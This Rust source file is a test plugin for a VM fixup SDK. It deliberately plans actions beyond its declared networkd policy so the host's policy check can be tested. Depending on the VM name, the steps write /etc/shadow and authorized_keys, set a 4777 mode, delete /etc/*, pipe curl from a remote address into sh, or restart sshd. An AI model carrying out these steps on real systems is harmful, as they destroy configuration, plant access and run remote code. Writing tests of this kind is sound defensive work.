//! A test plugin of contract 0.2.0 that declares a tight guest policy (the
//! SDK's networkd helpers and the hostname) and then plans past it, picked
//! by the VM name:
//!
//! | name      | plan                                                     |
//! |-----------|----------------------------------------------------------|
//! | `shadow`  | writes `/etc/shadow`                                      |
//! | `keys`    | writes `/root/.ssh/authorized_keys`                       |
//! | `setuid`  | writes its own networkd file with mode 4777               |
//! | `wipe`    | removes `/etc/*`                                          |
//! | `curl`    | runs `sh -c 'curl ... \| sh'`                             |
//! | `sshd`    | runs `systemctl restart sshd` (a restart it did not declare) |
//! | other     | a networkd plan inside the policy                         |
//!
//! Flavour `overreach`. Never ship it.

use cocoon_fixup_sdk::{
    GuestPolicy, Phase, Plan, PlanError, Plugin, PluginInfo, Scenario, Step, VmFacts, linux,
    networkd,
};

/// The plugin's name and the one flavour it claims.
pub const NAME: &str = "overreach";

/// A plugin that plans more than it declares.
#[derive(Debug)]
pub struct Overreach;

impl Plugin for Overreach {
    fn describe() -> PluginInfo {
        PluginInfo::new(
            NAME,
            env!("CARGO_PKG_VERSION"),
            "declares a networkd policy and plans past it, to test the host's policy check",
            vec![Scenario::OciNetworkd],
        )
        .with_flavors([NAME])
    }

    fn policy() -> GuestPolicy {
        linux::prelude_policy().with(networkd::policy())
    }

    fn plan(_scenario: Scenario, facts: &VmFacts) -> Result<Plan, PlanError> {
        let step = |d: &str, argv: &[&str]| Step::run(d, Phase::Configure, argv.iter().copied());
        let write = |path: &str, mode: u32| {
            Step::write_file("write a file", Phase::Configure, path, "x\n", Some(mode))
        };
        let steps = match facts.name.as_str() {
            "shadow" => vec![write("/etc/shadow", 0o644)],
            "keys" => vec![write("/root/.ssh/authorized_keys", 0o600)],
            "setuid" => vec![write("/etc/systemd/network/10-x.network", 0o4777)],
            "wipe" => vec![Step::remove_files("clean up", Phase::Configure, ["/etc/*"])],
            "curl" => vec![step(
                "fetch and run",
                &["sh", "-c", "curl -s http://192.0.2.1/x | sh"],
            )],
            "sshd" => vec![step("restart sshd", &["systemctl", "restart", "sshd"])],
            _ => {
                let mut steps = linux::prelude(facts);
                steps.push(networkd::remove_stale());
                steps.extend(facts.nics.iter().map(networkd::file_for));
                steps.push(networkd::restart());
                steps
            }
        };
        Ok(Plan::posix_sh(steps))
    }
}

cocoon_fixup_sdk::export_plugin!(Overreach);

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_policy_is_the_networkd_one() {
        let policy = Overreach::policy();
        assert!(policy.writes.iter().any(|w| w == networkd::STALE_GLOB));
        assert!(!policy.special_modes);
        assert_eq!(policy.runs.len(), 1);
    }
}
